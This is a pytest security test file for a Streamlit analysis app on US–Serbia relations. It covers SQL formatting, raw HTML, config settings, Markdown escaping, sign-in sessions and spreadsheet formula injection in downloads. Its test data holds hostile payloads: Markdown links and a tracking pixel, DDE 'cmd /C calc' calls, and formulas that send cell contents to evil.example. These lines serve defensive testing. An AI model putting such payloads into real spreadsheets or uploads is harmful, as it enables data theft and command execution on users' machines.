"""Security by inspection: no values formatted into SQL, no user text rendered as HTML, production config."""
from __future__ import annotations

import ast
import re
import tomllib
from datetime import date
from pathlib import Path

import pytest

from dialogue.config import ROOT

SOURCES = sorted([*(ROOT / "dialogue").rglob("*.py"), *(ROOT / "pages").rglob("*.py"), ROOT / "app.py"])
# SQL text: a statement keyword pair, so prose such as "check where the file is" does not count.
SQL = re.compile(
    r"(?is)\bselect\b.+\bfrom\b|\binsert\s+into\b|\bupdate\s+\w+\s+set\b|\bdelete\s+from\b"
    r"|\b(create|drop|alter)\s+(or\s+replace\s+)?(temp\s+|temporary\s+)?(table|sequence|view|macro|index|schema)\b"
    r"|\bcopy\s*\(|\battach\s+'|\bexport\s+database\b|\bimport\s+database\b|\bpragma\b"
)
# The documented exception: identifiers that are constants (table, column, sequence names from the
# schema) may be formatted into SQL when the line says so: `# noqa: S608 - <why it is a constant>`.
ALLOWED = re.compile(r"#\s*noqa:[^#\n]*\bS608\b[^#\n]*?\s[-–]\s*\S")


def _formatted_strings(tree: ast.AST):
    """Every f-string with a placeholder, str.format call and %-formatting of a string literal."""
    for node in ast.walk(tree):
        if isinstance(node, ast.JoinedStr) and any(isinstance(v, ast.FormattedValue) for v in node.values):
            text = "".join(v.value for v in node.values if isinstance(v, ast.Constant) and isinstance(v.value, str))
            yield node, text
        elif (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "format"
              and isinstance(node.func.value, ast.Constant) and isinstance(node.func.value.value, str)):
            yield node, node.func.value.value
        elif (isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod)
              and isinstance(node.left, ast.Constant) and isinstance(node.left.value, str)):
            yield node, node.left.value


def _allowed(lines: list[str], node: ast.AST) -> bool:
    """The exception comment on a line of the expression, or on the `)` line that closes its call."""
    end = node.end_lineno or node.lineno
    candidates = list(range(node.lineno, end + 1))
    if end < len(lines) and lines[end].strip().startswith(")"):
        candidates.append(end + 1)
    return any(ALLOWED.search(lines[i - 1]) for i in candidates)


def sql_formatting_offences(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8")
    lines = text.splitlines()
    out = []
    for node, literal in _formatted_strings(ast.parse(text)):
        if SQL.search(literal) and not _allowed(lines, node):
            out.append(f"{path.relative_to(ROOT)}:{node.lineno}: {lines[node.lineno - 1].strip()[:100]}")
    return sorted(out, key=lambda s: int(s.split(":")[1]))


def test_the_scanner_catches_formatted_values_and_accepts_documented_identifiers(tmp_path):
    bad = tmp_path / "bad.py"
    bad.write_text(
        'con.execute(f"select * from trade where reporter = \'{name}\'")\n'
        'con.execute("delete from notes where note_id = %s" % note_id)\n'
        'sql = "insert into audit_log values ({})".format(x)\n'
        'con.execute(f"select count(*) from {table}")  # noqa: S608 - table names are constants\n'
        'con.execute(f"select count(*) from {table}")  # noqa: S608\n'
        'con.execute(f"select count(*) from {table}")  # noqa: S608, F841 - constant names\n'
        'con.execute(\n    f"drop table if exists {stage}"\n)  # noqa: S608 - generated temp name\n'
        'msg = f"check where {file} is"\n'
        'con.execute("select * from trade where reporter = $name", {"name": name})\n',
        encoding="utf-8",
    )
    found = sorted(line.split(":")[1] for line in _offences_in(bad))
    assert found == ["1", "2", "3", "5"]
    assert "S608" in ALLOWED.pattern


def _offences_in(path: Path) -> list[str]:
    text = path.read_text(encoding="utf-8")
    lines = text.splitlines()
    return [f"{path.name}:{n.lineno}" for n, lit in _formatted_strings(ast.parse(text))
            if SQL.search(lit) and not _allowed(lines, n)]


@pytest.mark.parametrize("path", SOURCES, ids=[str(p.relative_to(ROOT)) for p in SOURCES])
def test_no_sql_is_built_by_formatting_values(path):
    offences = sql_formatting_offences(path)
    assert not offences, ("SQL built by formatting; bind values as $params, or, for a constant identifier, "
                          "say so with `# noqa: S608 - why`:\n" + "\n".join(offences))


def test_sql_files_use_named_parameters_not_placeholders():
    for sql in (ROOT / "queries").glob("*.sql"):
        text = sql.read_text(encoding="utf-8")
        assert not re.search(r"\{[A-Za-z_]\w*\}|%s|%\(\w+\)s", text), f"{sql.name} has a formatting placeholder"


HTML = re.compile(r"unsafe_allow_html\s*=\s*(?!False\b)|\bst\.html\s*\(|components\.v1\.html|\bcomponents\.html\s*\(")


@pytest.mark.parametrize("path", SOURCES, ids=[str(p.relative_to(ROOT)) for p in SOURCES])
def test_no_text_is_rendered_as_raw_html(path):
    hits = [f"{path.relative_to(ROOT)}:{i}: {line.strip()}"
            for i, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1) if HTML.search(line)]
    assert not hits, "raw HTML rendering (user text could become markup):\n" + "\n".join(hits)


def test_the_package_never_imports_streamlit():
    for path in (ROOT / "dialogue").rglob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            names = ([a.name for a in node.names] if isinstance(node, ast.Import)
                     else [node.module or ""] if isinstance(node, ast.ImportFrom) else [])
            assert not any(n.split(".")[0] == "streamlit" for n in names), f"{path} imports streamlit"


def test_only_the_audit_module_touches_the_audit_log():
    """Append-only in practice: no update or delete of audit_log anywhere, inserts only in audit.py."""
    for path in [*SOURCES, *(ROOT / "queries").glob("*.sql")]:
        text = path.read_text(encoding="utf-8").lower()
        assert not re.search(r"(update\s+audit_log|delete\s+from\s+audit_log|truncate\s+audit_log"
                             r"|drop\s+table\s+(if\s+exists\s+)?audit_log)", text), path
        if path.name != "audit.py":
            assert not re.search(r"insert\s+into\s+audit_log", text), f"{path} writes the audit log directly"


# -- production settings ----------------------------------------------------------------------
CONFIG = ROOT / ".streamlit" / "config.toml"
REQUIRED = {
    ("server", "enableXsrfProtection"): True,
    ("server", "enableCORS"): True,
    ("server", "maxUploadSize"): 25,
    ("server", "address"): "localhost",
    ("server", "fileWatcherType"): "none",
    ("client", "showErrorDetails"): "none",
    ("client", "toolbarMode"): "viewer",
    ("client", "disableDataExport"): True,
    ("browser", "gatherUsageStats"): False,
    ("runner", "postScriptGC"): False,
}


@pytest.mark.parametrize("key,expected", REQUIRED.items(), ids=[".".join(k) for k in REQUIRED])
def test_production_settings(key, expected):
    settings = tomllib.loads(CONFIG.read_text(encoding="utf-8"))
    section, option = key
    assert settings[section][option] == expected


def test_every_setting_has_a_comment_just_above_it():
    lines = CONFIG.read_text(encoding="utf-8").splitlines()
    for i, line in enumerate(lines):
        if re.match(r"^\s*[A-Za-z][\w.]*\s*=", line):
            assert i > 0 and lines[i - 1].strip().startswith("#"), (
                f"config.toml line {i + 1} ({line.strip()}) has no comment saying why it is set")


def test_streamlit_reads_the_same_settings(monkeypatch):
    from streamlit import config as st_config

    monkeypatch.chdir(ROOT)        # Streamlit reads ./.streamlit/config.toml

    st_config.get_config_options(force_reparse=True, options_from_flags={})
    try:
        assert st_config.get_option("server.maxUploadSize") == 25
        assert st_config.get_option("client.showErrorDetails") == "none"
        assert st_config.get_option("runner.postScriptGC") is False
    finally:
        st_config.get_config_options(force_reparse=True)


def test_secrets_are_kept_out_of_git_and_an_example_is_committed():
    ignored = (ROOT / ".gitignore").read_text(encoding="utf-8").splitlines()
    assert ".streamlit/secrets.toml" in ignored and ".streamlit/users.toml" in ignored
    example = tomllib.loads((ROOT / ".streamlit" / "secrets.toml.example").read_text(encoding="utf-8"))
    assert {"redirect_uri", "cookie_secret", "client_id", "client_secret", "server_metadata_url"} <= set(example["auth"])


# -- Markdown injection ---------------------------------------------------------------------------
HOSTILE = "**BOLD** [click me](https://evil.example/) ![px](http://127.0.0.1:8596/pixel.png)"
# What a live link, an image or an autolink from HOSTILE looks like in Markdown source.
LIVE = re.compile(r"(?<!\\)\]\(|(?<!\\)!\\?\[|(?<!\\)!\[|https?://(evil\.example|127\.0\.0\.1)")


def test_plain_escapes_every_markdown_character():
    from dialogue.safe_text import plain

    assert plain(HOSTILE) == (r"\*\*BOLD\*\* \[click me\]\(https\://evil\.example/\) "
                              r"\!\[px\]\(http\://127\.0\.0\.1\:8596/pixel\.png\)")
    assert plain("a_b `c` <d> #e +f -g |h| ~i~ $j$ \\k") == (
        r"a\_b \`c\` \<d\> \#e \+f \-g \|h\| \~i\~ \$j\$ \\k")
    assert plain("two\nlines\r\n# head") == r"two lines \# head"     # no block syntax through line breaks
    assert plain("Čačak, Ниш 2026") == "Čačak, Ниш 2026"             # letters and digits untouched
    assert plain(None) == "" and plain(float("nan")) == ""
    assert not LIVE.search(plain(HOSTILE))
    assert LIVE.search(HOSTILE)


def test_a_markdown_table_escapes_every_heading_and_cell_and_keeps_one_row_per_row():
    import pandas as pd

    from dialogue.safe_text import markdown_table

    frame = pd.DataFrame({"[x](y)": ["*a* | b", None, "line\nbreak"], "n": [1.0, float("nan"), 2.5],
                          "s": pd.array(["ok", pd.NA, "<b>"], dtype="string")})
    assert markdown_table(frame).split("\n") == [
        r"| \[x\]\(y\) | n | s |",
        "|---|---|---|",
        r"| \*a\* \| b | 1 | ok |",             # a pipe cannot end the cell, a whole float loses its ".0"
        "|  |  |  |",                             # missing values are empty cells, not "None" or "nan"
        r"| line break | 2\.5 | \<b\> |",        # a line break cannot end the row
    ]
    assert frame.iloc[0, 0] == "*a* | b"                                  # the caller's frame is left alone
    assert markdown_table(pd.DataFrame()) == ""


SKIPPED_ELEMENTS = {"text", "code", "arrow_data_frame", "dataframe", "arrow_vega_lite_chart", "vega_lite_chart"}  # shown literally, not as Markdown


def _markdown_strings(node):
    """Every string of an AppTest node that Streamlit renders as Markdown (tables included, data frames not)."""
    kind = getattr(node, "type", "")
    if kind == "table":
        frame = node.value
        yield "table: " + " ".join(map(str, frame.columns))
        yield "table: " + frame.astype(str).to_csv(index=False)
    elif kind not in SKIPPED_ELEMENTS:
        proto = getattr(node, "proto", None)
        if proto is not None and hasattr(proto, "ListFields"):
            yield from (f"{kind}: {s}" for s in _proto_strings(proto))
    for child in getattr(node, "children", {}).values():
        yield from _markdown_strings(child)


def _proto_strings(message):
    for field, value in message.ListFields():
        if field.name in ("options", "default", "value", "raw_value", "formatted_value", "id", "form_id"):
            continue                  # widget values and options are shown as plain text
        values = value if isinstance(value, (list, tuple)) or type(value).__name__.startswith('Repeated') else [value]
        for v in values:
            if isinstance(v, str):
                yield v
            elif hasattr(v, "ListFields"):
                yield from _proto_strings(v)


@pytest.fixture
def hostile_db(tmp_path, monkeypatch):
    """A database whose every user-text column holds HOSTILE, plus a note with it; local mode (no users)."""
    from dialogue import config, db
    from dialogue.notes import add_note
    from tests.conftest import ANALYST, put_rows

    path = tmp_path / "hostile.duckdb"
    con = db.connect(path)
    src = dict(source=HOSTILE, note=HOSTILE)
    put_rows(con, "events", [
        dict(date="2025-05-01", kind="milestone_achieved", target_id="unga-resolution", title=HOSTILE,
             parties=HOSTILE, area="political", **src),
        dict(date="2025-06-01", kind="annual_meeting", title=HOSTILE, area="process", **src),
        dict(date="2025-07-01", kind="context", title=HOSTILE, area="energy", **src),
    ])
    put_rows(con, "agreements", [
        dict(title=HOSTILE, date_signed="2025-03-01", category="defence", area="security", status="signed",
             us_party=HOSTILE, serbian_party=HOSTILE, **src),
        dict(title=HOSTILE, date_signed="2025-04-01", category="energy", area="energy", status="signed", **src),
    ])
    put_rows(con, "exercises", [
        dict(name=HOSTILE, start_date="2025-06-01", end_date="2025-06-10", status="held", format="bilateral",
             us_participation="yes", location=HOSTILE, participants=HOSTILE, **src),
    ])
    put_rows(con, "trade", [dict(reporter="US Census", year=y, flow=f, value=v, currency="USD", **src)
                            for y, f, v in ((2024, "us_to_serbia", 2e8), (2024, "serbia_to_us", 8e8),
                                            (2025, "us_to_serbia", 3e8), (2025, "serbia_to_us", 9e8))])
    for target in ("unga-resolution", "joint-exercises", "trade-growth", "roadmap-1"):
        add_note(con, ANALYST, target, HOSTILE, date(2025, 8, 1))
    db.set_meta(con, "workspace", "reference")
    con.close()
    monkeypatch.delenv("DIALOGUE_DB", raising=False)
    monkeypatch.setenv("DIALOGUE_USERS", str(tmp_path / "no-users.toml"))
    monkeypatch.setattr(config, "DEFAULT_DB", path)
    monkeypatch.setattr(config, "DEMO_DB", tmp_path / "unused-demo.duckdb")
    yield path
    db.close_all()


ALL_PAGES = ("overview", "trade", "security", "political", "roadmap", "briefings", "data", "method", "admin")


@pytest.mark.parametrize("page", ALL_PAGES)
def test_uploaded_text_never_becomes_a_live_link_or_image(hostile_db, page):
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    at.session_state["as_of"] = date(2026, 6, 30)
    at.run()
    if page != "overview":
        at.switch_page(f"pages/{page}.py")
        at.run()
    assert not at.exception, [e.value for e in at.exception]
    if page in ("political", "trade", "security", "roadmap"):
        for exp in at.expander:          # open every expander: notes and evidence live inside
            exp.proto.expanded = True
    rendered = list(_markdown_strings(at._tree))
    shown = [s for s in rendered if "evil" in s] + [t.value for t in at.text if t.value == HOSTILE]
    live = [s for s in rendered if LIVE.search(s)]
    assert not live, live[:3]
    if page in ("overview", "political", "trade", "security", "roadmap"):
        assert shown, "the hostile text is shown (escaped, or as plain text) somewhere on the page"


def test_pages_draw_tables_only_through_the_escaping_helper():
    """Tables are Markdown: pages draw them through common.safe_table, which escapes every cell (no st.table)."""
    offenders = [f"{p.relative_to(ROOT)}:{i}" for p in [*(ROOT / "pages").rglob("*.py"), ROOT / "app.py"]
                 for i, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
                 if "st.table(" in line]
    assert offenders == []


def test_a_hostile_file_name_and_cell_stay_literal_in_the_data_pages_messages(hostile_db):
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    at.run()
    at.switch_page("pages/data.py")
    at.run()
    name = "![px](http://127.0.0.1:8596/pixel.png).csv"
    csv = (f"name,start_date,format,us_participation,status\n{HOSTILE},not a date,bilateral,yes,held\n").encode()
    at.file_uploader(key="upload_file_0").set_value((name, csv, "text/csv"))
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    messages = [m.value for m in [*at.error, *at.success, *at.warning, *at.caption]]
    assert any("pixel" in m for m in messages), messages          # the file is named in the message
    assert not [m for m in messages if LIVE.search(m)]


@pytest.mark.parametrize("payload", [
    b"",                                                   # an empty member
    b"<row r=\"1\"><v>1</v></row>" * 400_000,              # ~10 MB that packs ~1000:1
    bytes(range(256)) * 20_000,                            # ~5 MB that hardly packs
])
def test_members_are_unpacked_whole_in_bounded_chunks(payload):
    import zlib

    from dialogue.sheets import _chunks_of, _inflater_module

    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(payload) + packer.flush()
    module = _inflater_module()
    chunks = list(_chunks_of(packed, module.decompressobj(-15), module.error))
    assert b"".join(chunks) == payload
    assert all(0 < len(c) <= 1 << 20 for c in chunks)


# -- formula injection through every download (issue 13 item 6) --------------------------------------
# OWASP's CSV-injection payloads and their disguises: leading blanks, tab, CR, LF, full-width and small
# forms, invisible characters, DDE calls. Each must come out of every download starting with an apostrophe.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/x","click me")',
    '=1+HYPERLINK("http://evil.example/x","click me")',
    '= HYPERLINK("http://evil.example/x")',
    "=-cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    '="x"&HYPERLINK("http://evil.example/x")',
    "=$A$1",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=IMAGE("http://evil.example/pixel.png")',
    '=WEBSERVICE("http://evil.example/?leak="&A1)',
    "   =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=HYPERLINK(\"http://evil.example\")",
    "\tplain text after a tab",
    "＝1+1",
    "＋1+cmd|' /C calc'!A0",
    "－1+1",
    "＠SUM(1)",
    "|cmd /C calc",
    "\u200b=1+1",
    "\u00a0=1+1",
    "\u3000＝HYPERLINK(\"http://evil.example\")",
    "﹦1+1",
]
# What a download's cell may not start with: a trigger, or a blank or invisible character before one.
TRIGGERS = set("=+-@|＝＋－＠｜﹦﹢﹣﹫")


def _evaluable(text: str) -> bool:
    return text[:1] in TRIGGERS or (text[:1].isspace() or text[:1] in "\u200b\ufeff") and text.strip()[:1] != ""


def test_the_payload_list_is_long_and_every_payload_is_refused_by_the_test_itself():
    assert len(PAYLOADS) >= 25 and len(set(PAYLOADS)) == len(PAYLOADS)
    assert all(_evaluable(p) for p in PAYLOADS)                     # the check below can fail
    assert not any(_evaluable("'" + p) for p in PAYLOADS)


@pytest.fixture
def payload_db(tmp_path, monkeypatch):
    """A database whose text columns hold every payload (straight in, as an old upload could have)."""
    from dialogue import config, db
    from dialogue.notes import add_note
    from tests.conftest import ANALYST, put_rows

    path = tmp_path / "payloads.duckdb"
    con = db.connect(path)
    put_rows(con, "exercises", [
        dict(name=p, start_date=f"2025-{1 + i % 12:02d}-{1 + i // 12:02d}", end_date=None, status="held",
             format="bilateral", us_participation="yes", location=p, participants=p, source=p, note=p)
        for i, p in enumerate(PAYLOADS)])
    put_rows(con, "events", [dict(date=f"2025-{1 + i % 12:02d}-{1 + i // 12:02d}", kind="context", title=p,
                                  area="political", parties=p, source=p, note=p) for i, p in enumerate(PAYLOADS)])
    put_rows(con, "agreements", [dict(title=p, date_signed=f"2025-{1 + i % 12:02d}-{1 + i // 12:02d}",
                                      category="defence", area="security", status="signed", us_party=p,
                                      serbian_party=p, source=p, note=p) for i, p in enumerate(PAYLOADS)])
    put_rows(con, "trade", [dict(reporter="US Census", year=2024, month=1 + i % 12, product_code=str(i),
                                 product=p, flow="us_to_serbia", value=1e6, currency="USD", source=p, note=p)
                            for i, p in enumerate(PAYLOADS)])
    for p in PAYLOADS:
        add_note(con, ANALYST, "joint-exercises", p, date(2025, 8, 1))
    db.set_meta(con, "workspace", "reference")
    con.close()
    monkeypatch.delenv("DIALOGUE_DB", raising=False)
    monkeypatch.setenv("DIALOGUE_USERS", str(tmp_path / "no-users.toml"))
    monkeypatch.setattr(config, "DEFAULT_DB", path)
    monkeypatch.setattr(config, "DEMO_DB", tmp_path / "unused-demo.duckdb")
    yield path
    db.close_all()


def _download(path_kind: str, db_file: Path, out_dir: Path) -> tuple[str, bytes]:
    """One download of the events and the whole store, made the way the user makes it."""
    from dialogue import db, views
    from dialogue.cli import main

    if path_kind.startswith("cli-"):
        out = out_dir / f"events.{path_kind[4:]}"
        assert main(["--db", str(db_file), "export", "events", "--out", str(out)]) == 0
        return out.suffix[1:], out.read_bytes()
    con = db.connect(db_file)
    try:
        if path_kind.startswith("export_bytes-"):
            fmt = path_kind.split("-")[1]
            return fmt, views.export_bytes(views.browse(con, "events"), fmt, "events")
        import io

        from dialogue.reports import content as report_content
        from dialogue.reports.xlsx import workbook

        buf = io.BytesIO()
        workbook(report_content.gather(con, date(2026, 6, 30), None)).save(buf)
        return "xlsx", buf.getvalue()
    finally:
        con.close()


def _cells(fmt: str, data: bytes) -> list[str]:
    """Every text cell of a download; for XLSX also that no cell is a formula."""
    import csv
    import io

    if fmt == "csv":
        return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]
    import openpyxl

    out = []
    for ws in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    out.append(cell.value)
    return out


@pytest.mark.parametrize("path_kind", ["cli-csv", "cli-xlsx", "export_bytes-csv", "export_bytes-xlsx", "annex-xlsx"])
def test_no_payload_reaches_a_download_in_a_form_a_spreadsheet_evaluates(payload_db, tmp_path, path_kind):
    fmt, data = _download(path_kind, payload_db, tmp_path)
    cells = _cells(fmt, data)
    assert not [c for c in cells if _evaluable(c)], [c for c in cells if _evaluable(c)][:5]
    # each payload is there, exactly as uploaded behind one apostrophe (XML reads a lone CR back as LF)
    expected = {"'" + (p.replace("\r", "\n") if fmt == "xlsx" else p) for p in PAYLOADS}
    assert expected <= set(cells), sorted(expected - set(cells))[:5]


def _hide_export_setting(value):
    from streamlit import config as st_config

    st_config.set_option("client.disableDataExport", value)


EVERY_PAGE = sorted(p.stem for p in (ROOT / "pages").glob("*.py") if p.stem != "__init__")


@pytest.mark.parametrize("page", EVERY_PAGE)
def test_no_table_offers_streamlits_raw_csv_download(payload_db, page):
    """st.dataframe's toolbar "Download as CSV" writes cells raw: it is off on every page, from the first run,
    even on a server started without our config.toml (simulated by turning the setting off first)."""
    from streamlit.proto.NewSession_pb2 import Config
    from streamlit.runtime.app_session import _populate_config_msg
    from streamlit.testing.v1 import AppTest

    _hide_export_setting(False)
    try:
        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
        at.session_state["as_of"] = date(2026, 6, 30)
        at.run()
        if page != "overview":
            at.switch_page(f"pages/{page}.py")
            at.run()
        assert not at.exception, [e.value for e in at.exception]
        sent = Config()
        _populate_config_msg(sent)              # what the server tells the browser at every run
        assert sent.disable_data_export is True
        if page == "security":                  # the payloads are in its tables, shown as text
            at.session_state["sec_exercises_table"] = at.session_state["sec_agreements_table"] = True
            at.run()
            shown = {v for df in at.dataframe for v in df.value.astype(str).to_numpy().ravel()}
            assert set(PAYLOADS) & shown
            # ... and our formula-safe CSV of each table is offered instead of Streamlit's
            assert [b.proto.label for b in at.get("download_button")] == ["Download CSV"] * len(at.dataframe)
    finally:
        from streamlit import config as st_config

        st_config.get_config_options(force_reparse=True)


def test_the_config_file_turns_the_raw_download_off_from_the_first_run(monkeypatch):
    from streamlit import config as st_config

    monkeypatch.chdir(ROOT)
    st_config.get_config_options(force_reparse=True, options_from_flags={})
    try:
        assert st_config.get_option("client.disableDataExport") is True
    finally:
        st_config.get_config_options(force_reparse=True)


# -- access: a signed-out visitor opens nothing, a reset credential ends the session (issue 13 items 7, 9) ----
@pytest.fixture
def signed_out(tmp_path, monkeypatch):
    """Users configured, and neither workspace's database made yet: what a visitor can make the server do."""
    from dialogue import auth, config, db
    from tests.conftest import ADMIN

    monkeypatch.setattr(auth, "BCRYPT_ROUNDS", 4)
    monkeypatch.delenv("DIALOGUE_DB", raising=False)
    monkeypatch.setenv("DIALOGUE_USERS", str(tmp_path / "users.toml"))
    monkeypatch.setattr(config, "DEFAULT_DB", tmp_path / "dialogue.duckdb")
    monkeypatch.setattr(config, "DEMO_DB", tmp_path / "demo.duckdb")
    from dialogue import audit
    auth.UserStore().add(audit.PendingLog(tmp_path / "elsewhere.duckdb"), ADMIN, "ana1", "analyst", "correct horse")
    yield tmp_path
    db.close_all()


def _databases(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if ".duckdb" in p.name and "audit-pending" not in p.name)


def test_a_signed_out_visitor_choosing_demo_data_creates_and_opens_no_database(signed_out):
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    at.run()
    assert [t.label for t in at.main.text_input] == ["User name", "Password"]
    at.radio(key="_workspace_en").set_value("demo").run()
    assert at.session_state["workspace"] == "demo"
    at.text_input(key="_dialogue_sign_in_name").set_value("ana1")
    at.text_input(key="_dialogue_sign_in_password").set_value("wrong horse")
    at.button[0].click().run()                       # a failed attempt is audited, in no new database
    assert not at.exception, [e.value for e in at.exception]
    assert [re.sub(r"\\(.)", r"\1", e.value) for e in at.error] == ["Wrong user name or password."]
    assert _databases(signed_out) == []


def test_a_session_ends_when_the_command_line_removes_and_re_adds_its_user(signed_out):
    """Signed in as ana1; `users remove ana1` and `users add ana1` with a new password, from another process:
    the old browser session ends at its next run, the Data page included."""
    import subprocess
    import sys

    from streamlit.testing.v1 import AppTest
    from pages.ui import auth_ui

    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    at.run()
    at.text_input(key="_dialogue_sign_in_name").set_value("ana1")
    at.text_input(key="_dialogue_sign_in_password").set_value("correct horse")
    at.button[0].click().run()
    assert not at.exception, [e.value for e in at.exception]
    token = at.session_state[auth_ui.TOKEN_KEY]
    at.switch_page("pages/data.py")
    at.run()
    assert at.title[0].value == "Data"
    env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT), "DIALOGUE_USERS": str(signed_out / "users.toml")}
    cli = [sys.executable, "-m", "dialogue", "--db", str(signed_out / "dialogue.duckdb"), "users"]
    for args, stdin in ((["remove", "ana1"], ""), (["add", "ana1", "--role", "analyst"], "battery staple\n" * 2)):
        done = subprocess.run(cli + args, input=stdin, text=True, capture_output=True, env=env, timeout=120)
        assert done.returncode == 0, done.stderr
    # AppTest reruns only the page after the first run: the next run is a fresh AppTest with the same token
    again = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    again.session_state[auth_ui.TOKEN_KEY] = token
    again.run()
    assert not again.exception, [e.value for e in again.exception]
    assert [t.label for t in again.main.text_input] == ["User name", "Password"]
    assert [i.value for i in again.info] == ["Your session has ended (timed out or changed). Please sign in again."]
    with pytest.raises(ValueError, match="Could not find a navigation page"):
        again.switch_page("pages/data.py")


# Let in at upload (a sign before text that calls nothing, a tab before plain words), guarded in every download.
LET_IN = {"\tplain text after a tab", "－1+1"}


def test_upload_refuses_every_formula_payload_with_its_row_and_column(tmp_path):
    import csv
    import io

    from dialogue import db
    from dialogue.ingest import ingest
    from tests.conftest import ANALYST

    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["date", "kind", "title", "area", "source"])
    for i, p in enumerate([*PAYLOADS, "-5 %", "+381 11 123", "a=b", "- (see note)"]):
        writer.writerow([f"2025-01-{i + 1:02d}", "context", f"t{i}", "political", p])
    con = db.connect(tmp_path / "up.duckdb")
    report = ingest(con, out.getvalue().encode("utf-8"), "events.csv", ANALYST, dataset="events", dry_run=True)
    con.close()
    refused = {e["row"] for e in report.errors if e["column"] == "source" and "formula" in e["message"]}
    expected = {i + 2 for i, p in enumerate(PAYLOADS) if p not in LET_IN}      # row 1 is the header
    assert not report.ok and refused == expected, sorted(refused ^ expected)


def test_the_administration_page_unlocks_a_user(signed_out):
    from streamlit.testing.v1 import AppTest

    from dialogue import audit, auth
    from dialogue.roles import Actor
    from pages.ui import auth_ui
    from tests.conftest import ADMIN

    users = auth.UserStore()
    users.add(audit.PendingLog(signed_out / "elsewhere.duckdb"), ADMIN, "root", "admin", "correct horse")
    for _ in range(5):
        with pytest.raises(auth.SignInRefused):
            users.verify(audit.PendingLog(signed_out / "elsewhere.duckdb"), "ana1", "guess", client="203.0.113.9")
    assert users.locked_until("ana1") is not None
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    at.session_state[auth_ui.TOKEN_KEY] = auth.SESSIONS.create(Actor("root", "admin"))
    at.run()
    at.switch_page("pages/admin.py")
    at.run()
    at.selectbox(key="admin_unlock_name").set_value("ana1")
    at.button(key="admin_unlock_go").click().run()
    assert not at.exception, [e.value for e in at.exception]
    assert [re.sub(r"\\(.)", r"\1", s.value) for s in at.success] == [
        "Unlocked ana1: failed sign-ins forgotten from 1 address."]
    assert users.locked_until("ana1") is None
